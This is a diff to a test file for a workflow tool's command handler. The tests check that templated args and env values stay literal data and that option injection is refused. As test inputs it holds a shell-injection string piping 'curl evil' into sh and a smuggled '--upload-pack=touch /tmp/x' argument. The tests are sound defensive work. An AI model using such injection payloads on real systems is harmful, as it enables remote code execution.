@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these tests write handler configs in the ${…} syntax
 import { existsSync, readFileSync } from 'node:fs';
 import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -5,7 +6,7 @@ import { join } from 'node:path';
 import type { CommandHandler, JsonObject } from '@openworkflow/schemas';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { failureOf } from '../test/failure.js';
-import { invocationOf } from '../test/invocation.js';
+import { invocationOf, secretsOf } from '../test/invocation.js';
 import { type CommandHandlerOptions, createCommandHandler } from './command-handler.js';
 
 const NODE = process.execPath;
@@ -47,7 +48,10 @@ function run(
   signal?: AbortSignal,
 ) {
   const executor = createCommandHandler({ workspaceRoot: root, ...options });
-  return executor.execute(invocationOf(handler, input, { environment, ...(signal ? { signal } : {}) }));
+  const secrets = secretsOf({ TOKEN: 'tok-123' });
+  return executor.execute(
+    invocationOf(handler, input, { environment, secrets, ...(signal ? { signal } : {}) }),
+  );
 }
 
 const PRINT_ARGV = 'console.log(JSON.stringify(process.argv.slice(1)))';
@@ -309,5 +313,41 @@ describe('timeouts, cancellation and output caps (CMD-9, CMD-10)', () => {
     expect(output.stdout.startsWith('a'.repeat(1000))).toBe(true);
     expect(output.stdout.length).toBeLessThan(10 * 1024 * 1024 + 100);
     expect(output.stdout.endsWith('[truncated: 104857600 bytes in total]')).toBe(true);
+  });
+});
+
+describe('templates in args and env (CMD-3, TI-6)', () => {
+  it('renders args from the input, each value one verbatim argv element', async () => {
+    const output = await run(nodeScript(PRINT_ARGV, {}, ['--', '${input.title}', 'x-${input.n}']), {
+      title: '; curl evil | sh; #',
+      n: 2,
+    });
+    expect(output).toEqual(['; curl evil | sh; #', 'x-2']);
+  });
+
+  it('CMD-3: refuses a user value that renders to an option, unless a literal "--" came first', async () => {
+    const input = { ref: '--upload-pack=touch /tmp/x' };
+    const marker = join(root, 'option-injection');
+    const script = `require("fs").writeFileSync(${JSON.stringify(marker)}, "x")`;
+    const error = await failureOf(run(nodeScript(script, {}, ['fetch', '${input.ref}']), input));
+    expect(error.details).toMatchObject({ rule: 'option_injection', field: 'args[3]' });
+    expect(existsSync(marker)).toBe(false);
+    await expect(run(nodeScript(PRINT_ARGV, {}, ['--', 'fetch', '${input.ref}']), input)).resolves.toEqual([
+      'fetch',
+      '--upload-pack=touch /tmp/x',
+    ]);
+    await expect(run(nodeScript(PRINT_ARGV, {}, ['--', '--ref=${input.ref}']), input)).resolves.toEqual([
+      '--ref=--upload-pack=touch /tmp/x',
+    ]);
+  });
+
+  it('TI-6: a hostile value mapped into env stays data; secrets reach env values', async () => {
+    const handler = nodeScript('console.log(JSON.stringify([process.env.TITLE, process.env.TOKEN]))', {
+      env: { TITLE: '${input.title}', TOKEN: '${secrets.TOKEN}' },
+    });
+    await expect(run(handler, { title: '"; curl evil | sh; #' })).resolves.toEqual([
+      '"; curl evil | sh; #',
+      'tok-123',
+    ]);
   });
 });
